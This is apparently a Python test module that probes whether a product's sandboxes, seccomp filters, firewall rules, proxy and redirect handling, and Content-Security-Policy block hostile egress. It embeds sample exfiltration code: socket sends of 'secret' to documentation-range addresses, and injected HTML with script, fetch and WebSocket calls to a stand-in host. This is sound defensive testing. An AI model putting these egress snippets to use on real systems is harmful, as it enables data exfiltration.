"""What tries to get out, run in the closed room: `python -m tests.circuit.probes NAME WALLS…`.

WALLS are those that are taken away. The switches are these words, in these tests only: nothing of the product reads
them.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Sequence
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx

ELSEWHERE = "192.0.2.9"
"""An address of nobody (RFC 5737)."""
ALLOWED = ("198.51.100.9", 443)
WAYS_OUT = f"""
import socket
def attempt(do):
    try:
        do()
    except OSError:
        pass
def tcp():
    with socket.socket() as one:
        one.settimeout(0.2)
        one.connect(("{ELSEWHERE}", 443))
def tcp6():
    with socket.socket(socket.AF_INET6) as one:
        one.settimeout(0.2)
        one.connect(("2001:db8::9", 443))
def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(b"secret", ("{ELSEWHERE}", 53))
for way in (tcp, tcp6, udp, lambda: socket.getaddrinfo("secret.example", 443)):
    attempt(way)
"""
"""Python that tries the ways out that a hostile program would."""


def model(off: Sequence[str]) -> None:
    """A model's worker that a hostile file has taken over."""
    from agents.models.embedded import model_calls, model_wall

    wall = model_wall(())
    if "network" in off:
        wall.insert(wall.index("--unshare-all") + 1, "--share-net")
    with model_calls() as rules:
        calls = [] if "seccomp" in off else ["--seccomp", str(rules.fileno())]
        command = [*wall, *calls, sys.executable, "-I", "-c", WAYS_OUT]
        subprocess.run(command, pass_fds=(rules.fileno(),), check=True)


def tool(off: Sequence[str]) -> None:
    """A tool, or a reader of documents, that is hostile."""
    from dataclasses import replace

    from tools.sandbox.jail import build_jail
    from tools.sandbox.seccomp import seccomp_filter
    from tools.sandbox.walls import Wall

    gone = {"network": Wall.NETWORK, "seccomp": Wall.SECCOMP}
    jail = replace(build_jail(), off=frozenset(gone[name] for name in off))
    with _pipe(seccomp_filter()) as rules:
        options = () if "seccomp" in off else ("--seccomp", str(rules.fileno()))
        subprocess.run(jail.running(WAYS_OUT, (), *options), pass_fds=(rules.fileno(),), check=True)


def program(off: Sequence[str]) -> None:
    """The program of an MCP server that is hostile."""
    from beffroi.settings.mcp import McpServer
    from tools.mcp.jail import server_command
    from tools.sandbox.seccomp import Profile, seccomp_filter

    python = os.path.realpath(getattr(sys, "_base_executable", sys.executable))
    folder = tempfile.TemporaryDirectory(prefix="beffroi-probe-")
    with folder as made, _pipe(seccomp_filter(Profile.PROGRAM)) as rules:
        source = Path(made) / "program.py"
        source.write_text(WAYS_OUT)
        server = McpServer(command=[python, "-I", str(source)], read=[source.parent, Path(sys.base_prefix)])
        command = server_command(server, rules.fileno())
        if "seccomp" in off:
            at = command.index("--seccomp")
            del command[at : at + 2]
        if "network" in off:
            command = [word for word in command if word != "--unshare-net"]
            if "--unshare-all" in command:
                command.insert(command.index("--unshare-all") + 1, "--share-net")
        subprocess.run(command, pass_fds=(rules.fileno(),), check=True)


def connector(off: Sequence[str]) -> None:
    """A city system that redirects elsewhere, and a proxy in the environment."""
    from beffroi.errors import BeffroiError
    from beffroi.settings.systems import HttpSystem
    from tools.reach.http import HttpService

    os.environ["HTTP_PROXY"] = f"http://{ELSEWHERE}:3128"
    port = _redirecting()
    service = HttpService("tickets", HttpSystem(url=f"http://127.0.0.1:{port}", timeout=1))
    if "redirects" in off:
        service._client.follow_redirects = True
    if "proxies" in off:
        with suppress(httpx.HTTPError):
            httpx.get(f"http://127.0.0.1:{port}/issues.json", trust_env=True, timeout=0.3)
    with suppress(BeffroiError):
        service.read("/issues.json")


def tracing(off: Sequence[str]) -> None:
    """LangChain's own tracing, switched on by the environment."""
    from ui.environment import without_tracing

    if "environment" not in off:
        without_tracing(os.environ)
    from langchain_core.runnables import RunnableLambda
    from langchain_core.tracers.langchain import wait_for_all_tracers
    from langsmith import tracing_context

    with tracing_context(enabled=None if "context" in off else False):
        RunnableLambda(lambda value: value).invoke("secret")
    asked = threading.Event()
    resolve = socket.getaddrinfo

    def noted(*words: Any, **more: Any) -> Any:
        asked.set()
        return resolve(*words, **more)

    socket.getaddrinfo = noted
    sending = threading.Thread(target=wait_for_all_tracers, daemon=True)
    sending.start()
    while sending.is_alive() and not asked.wait(0.1):
        continue
    time.sleep(0.5)
    print("tried", flush=True)
    os._exit(0)  # the tracer's own threads would go on trying for half a minute


def firewall(off: Sequence[str]) -> None:
    """The server's own process, taken over by a package that it imports."""
    from tools.reach.firewall import nftables_rules
    from tools.reach.hosts import Host

    if "rules" not in off:
        nft = shutil.which("nft") or "/usr/sbin/nft"
        rules = nftables_rules((Host(*ALLOWED, "systems.gis"),), str(os.getuid()))
        subprocess.run([nft, "-f", "-"], input=rules.encode(), check=True)
    for text in (WAYS_OUT.replace(ELSEWHERE, ALLOWED[0]), WAYS_OUT):
        exec(text, {})


def page(off: Sequence[str]) -> None:
    """A page into which hostile text has got as HTML, in a real browser.

    No ``<iframe>``: Chromium opens a connection to its host, and sends nothing, before it looks at the policy
    (docs/security.md, not claimed).
    """
    from playwright.sync_api import sync_playwright

    from evals.circuit.visit import _OPTIONS, browser_program
    from ui.serving.security import POLICY

    text = (
        f'<img src="http://{ELSEWHERE}/a.png"><script src="http://{ELSEWHERE}/b.js"></script>'
        f'<link rel="stylesheet" href="http://{ELSEWHERE}/c.css"><link rel="preconnect" href="http://{ELSEWHERE}">'
        f"<script>fetch('http://{ELSEWHERE}/e'); new WebSocket('ws://{ELSEWHERE}/f')</script>"
    )
    headers = {} if "policy" in off else {"Content-Security-Policy": POLICY}
    port = _serving(200, headers, text.encode())
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=browser_program(), args=list(_OPTIONS))
        opened = browser.new_page()
        opened.goto(f"http://127.0.0.1:{port}/", wait_until="commit")
        opened.wait_for_timeout(500)
        browser.close()


def _redirecting() -> int:
    return _serving(302, {"Location": f"http://{ELSEWHERE}/issues.json"}, b"")


def _serving(status: int, headers: dict[str, str], body: bytes) -> int:
    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(status)
            for name, value in {"Content-Type": "text/html", **headers}.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:
            """Quiet."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server.server_port


def _pipe(data: bytes) -> Any:
    """A pipe's reading end with the data in it."""
    read, write = os.pipe()
    os.write(write, data)
    os.close(write)
    return os.fdopen(read, "rb")


if __name__ == "__main__":
    {each.__name__: each for each in (model, tool, program, connector, tracing, firewall, page)}[sys.argv[1]](
        sys.argv[2:]
    )
    print("tried")
